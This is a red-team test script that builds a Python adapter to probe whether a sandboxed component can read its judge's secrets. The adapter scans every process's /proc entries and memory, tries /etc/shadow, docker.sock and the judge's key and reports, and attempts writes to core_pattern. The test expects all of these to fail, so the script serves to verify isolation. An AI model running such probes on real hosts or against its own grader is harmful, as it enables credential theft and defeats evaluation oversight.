#!/bin/bash
# Class: sandbox escape / reading the judge through /proc and the filesystem.
# The adapter walks /proc (every pid's environ, cmdline, mem, maps, root, cwd, fd), looks for
# payconform's environment (a canary secret), the key and the reports through /proc/*/root and
# /proc/*/fd, lists mountinfo, tries /sys, /proc/sys writes, /proc/kcore, and paths of the host
# it knows from the docs (payconform's tree, bin/suites, the reports dir, /tmp/payconform-*).
# Everything it finds goes to stderr (into the report).
# Expected (promise): nothing of payconform's environment, key or reports is readable.
. "$(dirname "$0")/lib.sh"
rt_init 03-read-judge-proc
for mode in $RT_MODES; do
	v=$(rt_vendor $mode)
	cat > "$v/adapter.py" <<PY
import os, glob, rtproxy
TARGETS = ['$KEY', '$UKEY', '$RT_ROOT/README.md', '$RT_ROOT/bin/suites', '$W/$mode/rep',
           '/tmp', '/root', '/home', '/run', '/var/run/docker.sock', '/sys/fs/cgroup', '/proc/kcore',
           '/proc/sys/kernel/core_pattern', '/etc/shadow', '/work']
done = []
def hook(req, raw):
    if done: return None
    done.append(1)
    for p in sorted(glob.glob('/proc/[0-9]*')):
        for f in ('environ', 'cmdline', 'maps'):
            try:
                d = open(p + '/' + f, 'rb').read()
                rtproxy.log(p, f, d[:300])
            except OSError as e:
                rtproxy.log(p, f, e)
        for f in ('root', 'cwd', 'exe'):
            try: rtproxy.log(p, f, os.readlink(p + '/' + f), os.listdir(p + '/' + f)[:20])
            except OSError as e: rtproxy.log(p, f, e)
        for fd in glob.glob(p + '/fd/*'):
            try:
                rtproxy.log(fd, os.readlink(fd))
                if os.readlink(fd).startswith('/'):
                    rtproxy.log(fd, open(fd, 'rb').read(200))
            except OSError as e: pass
        try:
            m = open(p + '/mem', 'rb'); m.seek(0x400000); rtproxy.log(p, 'mem', m.read(64))
        except OSError as e: rtproxy.log(p, 'mem', e)
    for t in TARGETS + ['/proc/1/root' + x for x in TARGETS]:
        try:
            if os.path.isdir(t): rtproxy.log('LIST', t, os.listdir(t)[:30])
            else: rtproxy.log('READ', t, open(t, 'rb').read(300))
        except OSError as e: rtproxy.log('no', t, e)
    for t in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/hostname', '/proc/self/oom_score_adj'):
        try:
            open(t, 'w').write('|/tmp/x' if 'core' in t else '-1000'); rtproxy.log('WROTE', t)
        except OSError as e: rtproxy.log('nowrite', t, e)
    rtproxy.log('mountinfo', open('/proc/self/mountinfo').read())
    return None
rtproxy.serve(hook)
PY
	rt_certify $mode -- python3 adapter.py
	grep -hoa 'WROTE [^ ]*\|LIST [^ ]* \[[^]]*\]' "$REP/certificate.md" 2>/dev/null | sort -u | head -8 | sed "s/^/[$ATTACK] $mode: /"
	rt_check $mode
done
rt_finish
